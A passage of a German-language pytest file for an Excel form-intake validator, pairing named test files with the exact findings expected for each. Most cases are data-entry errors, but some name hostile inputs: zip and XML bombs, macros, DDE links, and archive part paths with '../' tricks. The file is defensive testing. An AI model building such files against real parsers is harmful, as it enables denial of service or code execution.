"""What clumsy and hostile files must give: exactly these Befunde, word for word, and these values.

The texts are worked out by hand from meldungen.toml. A file without Befund is read as if nothing had been done to it.
"""

from __future__ import annotations

from datetime import date
from decimal import Decimal

import pytest

from eingaben.bauen import MELDUNG
from eingaben.faelle import AHV, dateien
from eingaben.urteil import Ergebnis, urteile

Zeile = tuple[str, str, str]
ERST, FAMILIEN = "Erstinformationsgespräche: mit Einzelpersonen", "Erstinformationsgespräche: mit Familien"
PERSONEN = "Erstinformationsgespräche: Erreichte Personen"
BESTAETIGUNG = "Die Angaben sind vollständig und richtig"
_GANZ = "eine ganze Zahl von 0 bis 9'999"
_NEU = "Füllen Sie die Vorlage neu aus, ohne Zellen zu verschieben."
GRUPPEN = "Erstinformationsgespräche: mit Personengruppen"
DOLMETSCH = "Erstinformationsgespräche, Dolmetscheinsätze bei Familien"
_NUMMER = (
    "Hier steht eine AHV-Nummer. Löschen Sie sie und senden Sie das Formular erneut;"
    " erfasst werden nur Anzahlen, keine Angaben zu einzelnen Personen. (Ziff. 5.1, F-30)"
)


# --- the texts of the catalogue, by hand ------------------------------------------------------
def eingang(code: str, *werte: str) -> Zeile:
    return code, "", MELDUNG[code].format(*werte)


def e08(felder: str, anzahl: str = "fehlt ein Feld") -> Zeile:
    rat = "Füllen Sie die Vorlage neu aus, ohne Zeilen, Spalten oder Namen zu löschen."
    return "E-08", "", f"In der Arbeitsmappe {anzahl}: {felder}. {rat} (Ziff. 5.2, E-08)"


def e14(was: str) -> Zeile:
    text = (
        f"Die Datei ist nur {was}, nicht die Arbeitsmappe selbst. Öffnen Sie das Formular, speichern Sie es als"
        " Excel-Arbeitsmappe (.xlsx) auf dem Computer und senden Sie diese Datei. (Ziff. 5.2, E-14)"
    )
    return "E-14", "", text


def e18(blatt: str, weitere: str) -> Zeile:
    text = (
        f"Neben «{blatt}» enthält die Arbeitsmappe ein weiteres Formularblatt ({weitere}). Gelesen wurde nur"
        f" «{blatt}». Senden Sie jedes Formular als eigene Datei, in der Vorlage der betreffenden Gemeinde."
        " (Ziff. 5.2, E-18)"
    )
    return "E-18", "", text


def e30(zelle: str, felder: str) -> Zeile:
    text = f"Die Felder {felder} führen beide auf diese Zelle; ihr Wert würde doppelt gelesen. {_NEU}"
    return "E-30", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-30)"


def e31(zelle: str, feld: str, blatt: str = "Reporting") -> Zeile:
    text = f"Das Feld «{feld}» führt auf diese Zelle; bei seiner Beschriftung steht sie nicht. {_NEU}"
    return "E-31", zelle, f"{blatt}!{zelle}: {text} (Ziff. 5.2, E-31)"


def e32(zelle: str, feld: str, gelesen: str, ecke: str) -> Zeile:
    text = (
        f"Im Feld «{feld}» steht «{gelesen}», auf dem Blatt ist es aber nicht zu sehen: Die Zelle ist mit {ecke}"
        " verbunden. Heben Sie die Verbindung auf (Start > Verbinden und zentrieren), prüfen Sie beide Werte und"
        " senden Sie das Formular erneut."
    )
    return "E-32", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-32)"


def e33(zelle: str, feld: str, gelesen: str, was: str) -> Zeile:
    text = (
        f"Im Feld «{feld}» steht «{gelesen}», seine {was} ist aber ausgeblendet. Blenden Sie sie ein und prüfen Sie den"
        " Wert; stimmt er, teilen Sie es mit."
    )
    return "E-33", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-33)"


def e34(zelle: str, feld: str, ort: str, gelesen: str) -> Zeile:
    text = (
        f"Das Feld «{feld}» ist leer; rechts davon, in {ort}, steht «{gelesen}». Gehört der Wert ins Feld, erfassen Sie"
        " ihn dort."
    )
    return "E-34", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-34)"


def e35(zelle: str, feld: str, gelesen: str, zeigt: str, grund: str) -> Zeile:
    text = (
        f"Im Feld «{feld}» steht «{gelesen}», auf dem Blatt ist aber {zeigt} zu sehen ({grund}). Stellen Sie die Zelle"
        " auf «Standard» (Start > Zahlenformat), prüfen Sie den Wert und senden Sie das Formular erneut."
    )
    return "E-35", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-35)"


def format35(code: str, zeigt: str, zelle: str = "C21", feld: str = ERST, gelesen: str = "8") -> Zeile:
    return e35(zelle, feld, gelesen, zeigt, f"das Zahlenformat «{code}»")


def e38(was: str, gelesen: str = "8", zelle: str = "C21", feld: str = ERST) -> Zeile:
    text = (
        f"Im Feld «{feld}» steht «{gelesen}», auf dem Blatt ist es aber nicht richtig zu lesen: {was}. Formatieren Sie"
        " die Zelle neu und prüfen Sie den Wert; stimmt er, teilen Sie es mit."
    )
    return "E-38", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, E-38)"


def a209(zelle: str, wo: str, einsaetze: str, gespraeche: str, ort: str) -> Zeile:
    text = (
        f"{einsaetze} bei {wo}, aber nur {gespraeche} mit {wo} in {ort}. Prüfen Sie, ob die Einsätze der richtigen"
        " Zeile zugeordnet sind; stimmen sie, erklären Sie es in den Bemerkungen."
    )
    return "A2-09", zelle, f"Reporting!{zelle}: {text} (Ziff. 4.3.1, A2-09)"


def f21(gelesen: str, zelle: str = "C21", feld: str = ERST) -> Zeile:
    text = f"«{gelesen}» ist bei «{feld}» nicht möglich. Erfassen Sie die Anzahl als ganze Zahl von 0 bis 9'999."
    return "F-21", zelle, f"Reporting!{zelle}: {text} (Ziff. 4.3.2, F-21)"


def f22(zelle: str, gelesen: str, feld: str, erlaubt: str = "Ja, Nein", blatt: str = "Reporting") -> Zeile:
    text = f"«{gelesen}» ist bei «{feld}» nicht möglich. Wählen Sie einen Wert aus der Liste: {erlaubt}."
    return "F-22", zelle, f"{blatt}!{zelle}: {text} (Ziff. 5.2, F-22)"


def f23(zelle: str, gelesen: str, feld: str, erwartet: str, blatt: str = "Reporting") -> Zeile:
    text = (
        f"«{gelesen}» ist bei «{feld}» nicht lesbar; erwartet wird {erwartet}."
        " Die Angabe wird nicht übernommen, bitte berichtigen Sie sie."
    )
    return "F-23", zelle, f"{blatt}!{zelle}: {text} (Ziff. 5.1, F-23)"


def f24(
    zelle: str, gelesen: str, verstanden: str, rat: str = "Erfassen Sie nur Ziffern.", blatt: str = "Reporting"
) -> Zeile:
    text = f"«{gelesen}» ist als Text erfasst und wurde als {verstanden} verstanden. {rat}"
    return "F-24", zelle, f"{blatt}!{zelle}: {text} (Ziff. 5.2, F-24)"


def f60(gelesen: str, verstanden: str) -> Zeile:
    text = (
        f"Gelesen wurde die Zahl «{gelesen}»; übernommen wurden {verstanden}. Erfassen Sie den Anteil mit"
        " Prozentzeichen, zum Beispiel 20%."
    )
    return "F-60", "C24", f"Selbstdeklaration!C24: {text} (Ziff. 5.2, F-60)"


def f24_datum(gelesen: str, verstanden: str = "10.07.2024") -> Zeile:
    return f24("C13", gelesen, verstanden, "Erfassen Sie das Datum als Datum, zum Beispiel 31.01.2024.")


def f25(zelle: str, formel: str, gelesen: str) -> Zeile:
    text = (
        f"Im Feld steht die Formel «{formel}»; übernommen wurde ihr Wert «{gelesen}»."
        " Erfassen Sie besser den Wert selbst."
    )
    return "F-25", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, F-25)"


def f26(inhalt: str) -> Zeile:
    text = f"Im Feld «{ERST}» steht {inhalt}. Erfassen Sie den Wert selbst, ohne Formel."
    return "F-26", "C21", f"Reporting!C21: {text} (Ziff. 5.2, F-26)"


def f27(zelle: str, feld: str, inhalt: str) -> Zeile:
    text = (
        f"Im Feld «{feld}» steht {inhalt}. Die Angabe wird nicht übernommen; erfassen Sie den Wert selbst, ohne Formel."
    )
    return "F-27", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.1, F-27)"


def f30(zelle: str, blatt: str = "Reporting") -> Zeile:
    return "F-30", zelle, f"{blatt}!{zelle}: {_NUMMER}" if zelle else f"{blatt}: {_NUMMER}"


def a201(zelle: str, feld: str) -> Zeile:
    text = f"«{feld}» ist leer. Erfassen Sie die Anzahl; gab es keine, erfassen Sie 0."
    return "A2-01", zelle, f"Reporting!{zelle}: {text} (Ziff. 5.2, A2-01)"


ANGEKUENDIGT = eingang("E-04", "ein Teil ist anders angekündigt, als er ist")
_BEDINGT = "eine bedingte Formatierung verbirgt den Wert oder zeigt ihn anders"
E39 = (
    "E-39",
    "C21",
    f"Reporting!C21: Im Feld «{ERST}» steht «8», darüber liegt aber ein Bild oder ein Textfeld. Schieben Sie es weg und"
    " prüfen Sie den Wert; stimmt er, teilen Sie es mit. (Ziff. 5.2, E-39)",
)
E06 = (
    "E-06",
    "",
    "Die Vorlage nennt sich «anhang2», Version «2099-01»; diese Version gibt es nicht."
    " Verlangen Sie beim Kanton eine neue Vorlage und füllen Sie diese aus. (Ziff. 5.2, E-06)",
)
E09 = (
    "E-09",
    "",
    "Das versteckte Blatt «_krs» wurde verändert."
    " Füllen Sie die Vorlage neu aus, die Sie vom Kanton erhalten haben. (Ziff. 5.2, E-09)",
)
E16 = (
    "E-16",
    "",
    "Die Datei enthält Makros. Sie wurden nicht ausgeführt; gelesen wurden nur die Werte."
    " Senden Sie das Formular beim nächsten Mal als Excel-Arbeitsmappe (.xlsx). (Ziff. 5.2, E-16)",
)
E17 = (
    "E-17",
    "",
    "Die Datei enthält Verknüpfungen zu anderen Dateien oder Programmen. Sie wurden nicht aufgerufen; gelesen wurden"
    " nur die gespeicherten Werte. Entfernen Sie die Verknüpfungen in Excel unter «Daten», «Verknüpfungen bearbeiten»."
    " (Ziff. 5.2, E-17)",
)
_OHNE_WERTE = "Nichts davon wurde aufgerufen; gelesen wurden nur die gespeicherten Werte."


def e37(was: str) -> Zeile:
    rat = "Entfernen Sie, was nach aussen führt; E-Mail-Adressen dürfen bleiben."
    return "E-37", "", f"Die Datei enthält {was}. {_OHNE_WERTE} {rat} (Ziff. 5.2, E-37)"


F02 = (
    "F-02",
    "B2",
    "Reporting!B2: Gelesen wurde «Trimbach»; die Vorlage gilt aber für Olten (BFS-Nr. 2581)."
    " Füllen Sie die Vorlage Ihrer eigenen Gemeinde aus, ohne Name und BFS-Nr. zu ändern. (Ziff. 5.2, F-02)",
)
F03 = (
    "F-03",
    "F4",
    "Reporting!F4: Gelesen wurde «2024-H1»; die Vorlage gilt aber für 2023-H1."
    " Verwenden Sie die Vorlage der richtigen Periode, ohne die Periode zu ändern. (Ziff. 5.2, F-03)",
)
F10 = (
    "F-10",
    "C9",
    "Reporting!C9: Das Formular ist leer: Noch ist kein Feld ausgefüllt."
    " Füllen Sie es aus, speichern Sie es und senden Sie es erneut. (Ziff. 5.2, F-10)",
)
F24_PENSUM = (
    "F-24",
    "C24",
    "Selbstdeklaration!C24: «20 %» ist als Text erfasst und wurde als 20% verstanden."
    " Erfassen Sie den Anteil als Zahl, zum Beispiel 20%. (Ziff. 5.2, F-24)",
)
F40 = (
    "F-40",
    "C60",
    "Reporting!C60: Die Angaben sind nicht bestätigt («Nein»). Wählen Sie «Ja», wenn das Formular vollständig und"
    " richtig ist, und senden Sie es erneut. (Ziff. 5.2, F-40)",
)
A217 = (
    "A2-17",
    "E30",
    "Reporting!E30: 2 erreichte Personen, aber 3 Integrationsgespräche. An jedem Gespräch nimmt mindestens eine Person"
    " teil; bitte prüfen Sie die Zahl der erreichten Personen. (Ziff. 5.1, A2-17)",
)
ALLE_FELDER = "«Gemeinde», «BFS-Nr.», «Periode», «Kontakt: Name, Vorname», «Kontakt: Funktion» und 30 weitere"


def a210(summe: int, teil3: int = 6) -> Zeile:
    text = (
        f"Reporting!B40: Die Liste der Sprachen ergibt {summe} Dolmetscheinsätze, Teil 3 aber {teil3}"
        " Dolmetscheinsätze. Berichtigen Sie die Liste oder Teil 3, bis beide übereinstimmen. (Ziff. 4.3.2, A2-10)"
    )
    return "A2-10", "B40", text


# --- name → Befunde, in their order -----------------------------------------------------------
ERWARTET: dict[str, list[Zeile]] = {
    "Anhang 2 ohne Fehler": [],
    "Anhang 3 ohne Fehler": [],
    "Zahl mit geradem Apostroph": [f24("C30", "3'000", "3000")],
    "Zahl mit typografischem Apostroph": [f24("C30", "3’000", "3000")],
    "Zahl mit geschütztem Leerschlag": [f24("C30", "1 200", "1200")],
    "Zahl mit schmalem Leerschlag": [f24("C30", "1 200", "1200")],
    "Zahl mit Punkt und Null": [f24("C30", "19.0", "19")],
    "Zahl mit Komma und Null": [f24("C30", "19,0", "19")],
    "Zahl mit Strich wie ein Betrag": [f23("C30", "19.–", PERSONEN, _GANZ)],
    "Zahl in breiten Ziffern": [f24("C21", "\uff18", "8")],
    "Zahl in arabischen Ziffern": [f24("C21", "\u0668", "8")],
    "Zahl mit Leerschlägen dahinter": [f24("C21", "8", "8")],
    "Zahl mit Apostroph davor": [f21("'8")],
    "Zahl mit «ca.»": [f21("ca. 5")],
    "Zahl in Worten": [f21("fünf")],
    "Zahl mit Einheit": [f21("8 Gespräche")],
    "Strich statt Null": [f21("-")],
    "Negative Anzahl": [f21("-3")],
    "Halbes Gespräch": [f21("2.5")],
    "Riesige Anzahl": [f21("123456789012")],
    "Höchste Anzahl": [],
    "Zahl in wissenschaftlicher Schreibweise": [],
    "Text in wissenschaftlicher Schreibweise": [f21("1e3")],
    "Prozent in einer Anzahl": [f21("50%")],
    "Datum in einer Anzahl": [f21("45385")],
    "Datum als Text in einer Anzahl": [f21("45'385")],
    "Uhrzeit in einer Anzahl": [f21("0.375")],
    "WAHR in einer Anzahl": [f21("WAHR")],
    "Rauschen der Rechnung": [],
    "Datum als Text": [f24_datum("10.07.2024")],
    "Datum kurz": [f24_datum("10.7.24")],
    "Datum mit Leerschlägen": [f24_datum("10. 7. 2024")],
    "Datum nach ISO": [f24_datum("2024-07-10")],
    "Datum mit Monatsnamen": [f24_datum("10. Juli 2024")],
    "Datum mit Schrägstrichen": [f23("C13", "10/07/2024", "Datum", "ein Datum wie 31.01.2024")],
    "Datum mit Schrägstrichen am 31.": [f24_datum("31/07/2024", "31.07.2024")],
    "Datum mit Uhrzeit": [],
    "Rechnung statt Zahl": [f25("C21", "=5+3", "8")],
    "Formel ohne Ergebnis": [f26("eine Formel ohne Ergebnis (=5+3)")],
    "Formel aus einer anderen Datei": [E17, f26("ein Bezug auf eine andere Datei (=[1]Liste!$B$2)")],
    "Formel auf ein eigenes Blatt": [f25("C21", "=Liste!A9", "8")],
    "Bezugsfehler": [f26("der Fehlerwert #BEZUG!")],
    "Nicht vorhanden": [f26("der Fehlerwert #NV")],
    "Division durch null": [f26("der Fehlerwert #DIV/0!")],
    "Fehlerwert ohne Beitrag": [f27("C30", PERSONEN, "der Fehlerwert #NV")],
    "Gemeinsame Formel": [f25("C21", "=4+4", "8"), f25("C22", "=4+4", "8")],
    "WAHR statt Ja": [],
    "FALSCH statt Nein": [F40],
    "Formel WAHR() statt Ja": [],
    "ja klein": [],
    "JA mit Leerschlag": [],
    "j statt Ja": [f22("C60", "j", BESTAETIGUNG)],
    "x statt Ja": [f22("C60", "x", BESTAETIGUNG)],
    "Nein mit Punkt": [f22("C16", "Nein.", "Im Halbjahr wurden keine Gespräche geführt")],
    "1 statt Ja": [f22("C60", "1", BESTAETIGUNG)],
    "Auswahl gross geschrieben": [],
    "Auswahl ausserhalb der Liste": [
        f22("C37", "mehrheitlich", "Aufgabe 1: Anlauf- und Koordinationsstelle führen",
            "erfüllt, teilweise, nicht erfüllt", "Selbstdeklaration"),
    ],
    "Pensum als Text": [F24_PENSUM],
    "Pensum in Prozentpunkten": [f60("20", "20%")],
    "Pensum 10": [f60("10", "10%")],
    "Pensum 1.5": [f60("1.5", "150%")],
    "Betrag mit Währung": [f24("C59", "Fr. 9'000.–", "9000", blatt="Selbstdeklaration")],
    "Betrag mit Franken dahinter": [f24("C59", "9 000.-- Fr.", "9000", blatt="Selbstdeklaration")],
    "Betrag, der vieles heissen kann": [
        f23("C59", "Fr. 9.000", "Effektiver Aufwand in Franken", "ein Betrag in Franken ab 0", "Selbstdeklaration"),
    ],
    "E-Mail mit zwei Adressen": [
        f23("C11", "anna@example.ch; eva@example.ch", "Kontakt: E-Mail", "eine E-Mail-Adresse"),
    ],
    "Nur Leerschläge": [a201("C21", ERST)],
    "Unbestätigt": [F40],
    "Leer zurück": [F10],
    "Leer zurück mit Makros": [E16, F10],
    "Formular vom letzten Jahr": [F03],
    "Andere Gemeinde eingetragen": [F02],
    "Kennung verändert": [E09],
    "Kennung mit AHV-Nummer": [E09],
    "Kennung als Zahlen": [],
    "Kennung mit Kommastellen": [],
    "Kennung mit Datum": [],
    "Kennung mit Datum nach ISO": [],
    "Kennung mit langem Strich": [],
    "Kennung einer anderen Gemeinde": [E09],
    "Kennung weiter unten": [],
    "Kennblatt sichtbar": [],
    "Kennblatt ausgeblendet": [],
    "Version, die es nicht gibt": [E06],
    "Kennblatt gelöscht": [eingang("E-05")],
    "Name gelöscht": [e08("«Datum»")],
    "Zeile gelöscht": [e08(f"«{FAMILIEN}» und «Integrationsgespräche: mit Familien»", "fehlen 2 Felder")],
    "Liste mit leerer Spalte": [],
    "Liste mit voller Spalte": [e08("«Sprachen»")],
    "Liste weiter unten ausgefüllt": [],
    "Liste mit Summe daneben": [a210(7)],
    "Liste mit Einheit": [f23("C40", "4 Einsätze", "Einsätze", _GANZ), a210(2)],
    "Felder nebeneinander verbunden": [],
    "Felder untereinander verbunden": [a201("C22", FAMILIEN)],
    "Feld ausgeschnitten und eingefügt": [e31("H90", FAMILIEN)],
    "Zwei Felder auf einer Zelle": [
        e30("C22", f"«{ERST}» und «{FAMILIEN}»"),
        a209("C25", "Einzelpersonen", "4 Dolmetscheinsätze", "3 Erstinformationsgespräche", "C22"),
    ],
    "Liste über einem Feld": [
        e30("C41", "«Datum» und «Sprachen»"),
        f23("C41", "2", "Datum", "ein Datum wie 31.01.2024"),
    ],
    "Felder vertauscht": [
        e31("C22", ERST),
        e31("C21", FAMILIEN),
        a209("C25", "Einzelpersonen", "4 Dolmetscheinsätze", "3 Erstinformationsgespräche", "C22"),
    ],
    "Spalten vertauscht": [e31("E23", GRUPPEN), e31("C23", "Integrationsgespräche: mit Personengruppen"), A217],
    "Gleich beschriftete Felder vertauscht": [
        e31("C26", FAMILIEN),
        e31("C22", DOLMETSCH),
        a209("C22", "Familien", "3 Dolmetscheinsätze", "1 Erstinformationsgespräch", "C26"),
        a210(6, 8),
    ],
    "Feld auf einer Beschriftung": [e31("B22", FAMILIEN), f21("mit Familien", "B22", FAMILIEN)],
    "Feld auf der Kopie": [e31("C22", FAMILIEN, "Reporting (2)")],
    "Liste mit ihren Titeln": [e31("B39", "Sprachen"), f23("C39", "Einsätze", "Einsätze", _GANZ)],
    "Liste ohne ihre letzten Zeilen": [e31("B40", "Sprachen"), a210(4)],
    "Namen in Grossbuchstaben": [],
    "Namen mit Gleichheitszeichen": [],
    "Namen mit Anführungszeichen": [],
    "Name mit zwei Zielen": [eingang("E-04", "ein Name kommt doppelt vor")],
    "Adressen klein": [],
    "Adressen mit Dollarzeichen": [],
    "Adresse ohne Zeile": [eingang("E-04", "eine Zelle hat keinen gültigen Ort")],
    "Adresse hinter dem Blatt": [eingang("E-04", "eine Zelle hat keinen gültigen Ort")],
    "Adresse zweimal, anders geschrieben": [eingang("E-04", "eine Zelle kommt doppelt vor")],
    "Verbunden, Wert verdeckt": [e32("C22", FAMILIEN, "3", "C21")],
    "Mit der Beschriftung verbunden": [e32("C21", ERST, "8", "B21")],
    "Alles verbunden": [
        e32("C21", ERST, "8", "B21"),
        e32("E21", "Integrationsgespräche: mit Einzelpersonen", "2", "B21"),
        e32("C22", FAMILIEN, "3", "B21"),
        e32("E22", "Integrationsgespräche: mit Familien", "0", "B21"),
        e32("C23", GRUPPEN, "1", "B21"),
        e32("E23", "Integrationsgespräche: mit Personengruppen", "0", "B21"),
    ],
    "Zeile ausgeblendet": [e33("C22", FAMILIEN, "3", "Zeile")],
    "Spalte ausgeblendet": [
        e33("E21", "Integrationsgespräche: mit Einzelpersonen", "2", "Spalte"),
        e33("E25", "Integrationsgespräche, Dolmetscheinsätze bei Einzelpersonen", "1", "Spalte"),
        e33("E30", "Integrationsgespräche: Erreichte Personen", "2", "Spalte"),
        e33("E34", "Integrationsgespräche: Geführt durch Verantwortliche von start.integration", "Ja", "Spalte"),
        e33("E35", "Integrationsgespräche: Nachweise liegen vor (Durchführung nachprüfbar)", "Ja", "Spalte"),
    ],
    "Werte daneben eingefügt": [
        e34("C21", ERST, "D21", "8"),
        e34("C22", FAMILIEN, "D22", "3"),
        e34("C23", GRUPPEN, "D23", "1"),
        a201("C21", ERST),
        a201("C22", FAMILIEN),
        a201("C23", GRUPPEN),
    ],
    "Zahlenformate, die nichts ändern": [],
    "Zahlenformat verbirgt": [format35(";;;", "nichts")],
    "Zahlenformat verbirgt eine Null": [],
    "Zahlenformat hängt eine Null an": [format35('0"0"', "«80»")],
    "Zahlenformat ist eine andere Zahl": [format35('"12"', "«12»")],
    "Zahlenformat in Tausend": [format35("0.0,", "«0.0»", "C30", PERSONEN, "19")],
    "Zahlenformat in Prozent": [format35("0%", "«800%»")],
    "Zahlenformat eines Datums": [format35("dd.mm.yyyy", "ein Datum oder eine Zeit")],
    "Zahlenformat mit Punkt": [format35("0\\.0", "«1.9»", "C30", PERSONEN, "19")],
    "Zahlenformat mit Bedingung": [format35('[>5]"3";0', "«3»")],
    "Zahlenformat in Dutzend": [format35('0" Dutzend"', "«8 Dutzend»")],
    "Zahlenformat für Text": [
        format35('0;0;0;"Ja"', "«Ja»", "C16", "Im Halbjahr wurden keine Gespräche geführt", "Nein"),
    ],
    "Zahlenformat statt Datum": [format35('"01.01.2024"', "«01.01.2024»", "C13", "Datum", "10.07.2024")],
    "Zahlenformat in der Liste": [format35('0"4"', "«44»", "C40", "Sprachen", "4")],
    "Zahlenformat mit AHV-Nummer": [
        format35('"[AHV-Nummer]"', "«[AHV-Nummer]»"), f30("", "Formate der Mappe"),
    ],
    "Zelle mit ihrem Wert gefüllt": [
        e35("C21", ERST, "8", "«8» mehrmals nebeneinander", "die Ausrichtung «Ausfüllen»"),
    ],
    "Weisse Schrift": [e38("Schrift und Füllung haben dieselbe Farbe")],
    "Schrift in der Farbe des Designs": [e38("Schrift und Füllung haben dieselbe Farbe")],
    "Weisse Schrift auf einer Null": [],
    "Weisse Schrift auf blau": [],
    "Weiss durch das Zahlenformat": [e38("Schrift und Füllung haben dieselbe Farbe")],
    "Durchgestrichene Anzahl": [e38("die Schrift ist durchgestrichen")],
    "Durchgestrichener Name": [],
    "Winzige Schrift": [e38("die Schrift ist zu klein")],
    "Durchgestrichene Ziffern": [
        e38("ein Teil davon ist durchgestrichen, hochgestellt oder unsichtbar", "20", "C30", PERSONEN),
        f24("C30", "20", "20"),
    ],
    "Bedingt verborgen": [
        e38(_BEDINGT),
        e38(_BEDINGT, "3", "C22", FAMILIEN),
        e38(_BEDINGT, "1", "C23", GRUPPEN),
        e38(_BEDINGT, "2", "E21", "Integrationsgespräche: mit Einzelpersonen"),
    ],
    "Bedingt hervorgehoben": [],
    "Balken ohne Zahl": [e38(_BEDINGT)],
    "Textfeld über einer Anzahl": [E39],
    "Textfeld neben den Anzahlen": [],
    "Zeilen ohne Höhe": [e33("C22", FAMILIEN, "3", "Zeile")],
    "Zeile, die fast keine Höhe hat": [e33("C22", FAMILIEN, "3", "Zeile")],
    "Formular ist kein Blatt": [eingang("E-04", "ein Blatt ist keine Tabelle")],
    "Kennblatt ist kein Blatt": [eingang("E-04", "ein Blatt ist keine Tabelle")],
    "Blatt ohne Beziehung": [eingang("E-04", "ein Blatt fehlt")],
    "Zwei Blätter in einem Teil": [eingang("E-04", "zwei Blätter sind dasselbe")],
    "Zwei Inhalte in einem Blatt": [eingang("E-04", "ein Blatt hat zwei Inhalte")],
    "Zeilen eingefügt": [],
    "Spalten eingefügt": [],
    "Eingaberegeln und Formate verloren": [],
    "Blatt umbenannt": [],
    "Blatt ausgeblendet": [],
    "Blatt ganz versteckt": [],
    "Blätter umgestellt": [],
    "Eigenes Blatt dazu": [],
    "Blatt in der Mappe kopiert": [e18("Reporting", "«Reporting (2)»")],
    "Blatt einer anderen Gemeinde dazu": [e18("Reporting", "«Trimbach»")],
    "Kopie ohne Namen": [e18("Reporting", "«Sicherung»")],
    "Selbstdeklaration dazu": [e18("Reporting", "«Selbstdeklaration»")],
    "Blatt kopiert, Original gelöscht": [],
    "Zwei Kopien": [e18("Reporting", "«Reporting (2)», «Reporting (3)»")],
    "Kopie des Kennblatts": [e18("Reporting", "«_krs (2)»")],
    "Umbenannt und kopiert": [e18("Juli", "«Juli (2)»")],
    "Erläuterungen umbenannt": [],
    "Makros": [E16],
    "Makros mit Rückstrichen": [E16],
    "Makros unter anderem Namen": [E16],
    "Excel-4-Makros": [E16],
    "Verknüpfung zu einer Mappe": [E17],
    "DDE-Verknüpfung": [E17],
    "Datenverbindung": [E17],
    "Bild von einem Server": [E17],
    "Hyperlinks und E-Mail-Adressen": [e37("Links nach aussen")],
    "Makros und Verknüpfungen": [E16, E17],
    "Falsche Grösse": [],
    "Zelle in der letzten Ecke": [],
    "Gemeinsame Texte": [],
    "Texte in Stücken": [],
    "Strict OOXML": [],
    "Namensräume mit Präfix": [],
    "Teile in UTF-16": [],
    "Pfade mit Rückstrichen": [],
    "Ohne Eigenschaften": [],
    "Zeitrechnung ab 1904": [],
    "Archiv mit Grössen am Schluss": [],
    "Archiv ungepackt": [],
    "Archiv mit Anhängsel": [],
    "Leere Datei": [eingang("E-04", "sie ist leer")],
    "Abgebrochene Übertragung": [eingang("E-04", "das Archiv ist unvollständig")],
    "Doppelter Teil": [eingang("E-04", "ein Teil kommt doppelt vor")],
    **{
        f"Doppelter Teil: {name}": [eingang("E-04", "ein Teil kommt doppelt vor")]
        for name in (
            "xl/./worksheets/sheet1.xml", "xl//worksheets/sheet1.xml", "xl/worksheets/sheet%31.xml",
            "xl/worksheets/sheet1.xml.", "xl/worksheets/../worksheets/sheet1.xml", "xl/worksheets/sheet1.xml/[0].piece",
        )
    },
    "Blatt als Diagramm angekündigt": [ANGEKUENDIGT],
    "Mappe als Brief angekündigt": [ANGEKUENDIGT],
    "Mappe als Vorlage angekündigt": [],
    "Texte als Formate angekündigt": [ANGEKUENDIGT],
    "Beziehung zu einem Diagramm": [ANGEKUENDIGT],
    "Beziehung nach aussen": [eingang("E-04", "ein Blatt fehlt")],
    "Zwei Beziehungen eines Namens": [eingang("E-04", "eine Beziehung kommt doppelt vor")],
    "Zwei Mappen": [eingang("E-04", "ein Teil kommt doppelt vor")],
    "Zip-Bombe": [eingang("E-10", "ausgepackt über 60 MB")],
    "XML-Bombe": [eingang("E-04", "sie enthält eine unzulässige Dokumentdefinition")],
    "Blatt, das seine Grösse verschweigt": [eingang("E-04", "das Archiv ist beschädigt")],
    "Verschlüsselt": [eingang("E-02")],
    "Altes Excel": [eingang("E-03", "Excel 97–2003 (.xls)")],
    "Binäres Excel": [eingang("E-03", "Excel-Binärarbeitsmappe (.xlsb)")],
    "OpenDocument": [eingang("E-03", "OpenDocument (.ods)")],
    "Apple Numbers": [eingang("E-03", "Apple Numbers")],
    "Textdatei": [eingang("E-03", "Text (.csv)")],
    "PDF mit falscher Endung": [eingang("E-03", "PDF")],
    "HTML mit falscher Endung": [eingang("E-03", "HTML")],
    "Brief": [eingang("E-01")],
    "Eigene Mappe": [eingang("E-05")],
    "Sperrdatei": [eingang("E-11")],
    "Gespeicherte E-Mail": [eingang("E-12")],
    "Verweis auf Google": [e14("ein Verweis auf ein Dokument im Internet (.gsheet)")],
    "Platzhalter der Cloud": [e14("ein Platzhalter für eine Datei in der Cloud (.icloud)")],
    "AHV-Nummer in den Bemerkungen": [f30("C59")],
    "AHV-Nummer mit Leerschlägen": [f30("C59")],
    "AHV-Nummer mit Strichen": [f30("C59")],
    "AHV-Nummer ohne Zeichen": [f30("C59")],
    "AHV-Nummer mit Unterstrichen": [f30("C59")],
    "AHV-Nummer mit Kommas": [f30("C59")],
    "AHV-Nummer mit Buchstaben O": [f30("C59")],
    "AHV-Nummer im Titel der Datei": [f30("", "Eigenschaften der Datei")],
    "AHV-Nummer in einem Namen": [f30("", "Namen der Mappe")],
    "AHV-Nummer als Wert eines Namens": [f30("", "Namen der Mappe")],
    "AHV-Nummer im Kommentar eines Namens": [f30("", "Namen der Mappe")],
    "AHV-Nummer in den eigenen Eigenschaften": [f30("", "Eigenschaften der Datei")],
    "AHV-Nummer als Autor": [f30("", "Eigenschaften der Datei")],
    "AHV-Nummer als Autor eines Kommentars": [f30("")],
    "AHV-Nummer im Design": [f30("", "Formate der Mappe")],
    "AHV-Nummer in einer XML-Bemerkung": [f30("")],
    "AHV-Nummer in einer Zeichnung, roh": [f30("")],
    "AHV-Nummer in einer alten Zeichnung": [f30("")],
    "AHV-Nummer in der Fusszeile": [f30("")],
    "AHV-Nummer in einer Auswahlliste": [f30("")],
    "AHV-Nummer als Name eines Formats": [f30("", "Formate der Mappe")],
    "AHV-Nummer in breiten Ziffern": [f30("D21")],
    "AHV-Nummer in einer Anzahl": [f30("C30"), f23("C30", "[AHV-Nummer]", PERSONEN, _GANZ)],
    "AHV-Nummer neben den Feldern": [f30("D21")],
    "AHV-Nummer in Stücken": [f30("D21")],
    "AHV-Nummer im Nachweis": [f30("D5", "Nachweis")],
    "AHV-Nummer in den gemeinsamen Texten": [f30("D21")],
    "AHV-Nummer auf einem eigenen Blatt": [f30("B2", "Liste")],
    "AHV-Nummer in einem Kommentar": [f30("C21")],
    "AHV-Nummer in einem Textfeld": [f30("")],
    "AHV-Nummer in der Kopfzeile": [f30("")],
    "AHV-Nummer als Blattname": [f30("", "[AHV-Nummer]")],
    "AHV-Nummer im Feld und daneben": [f30("D21"), f30("C59")],
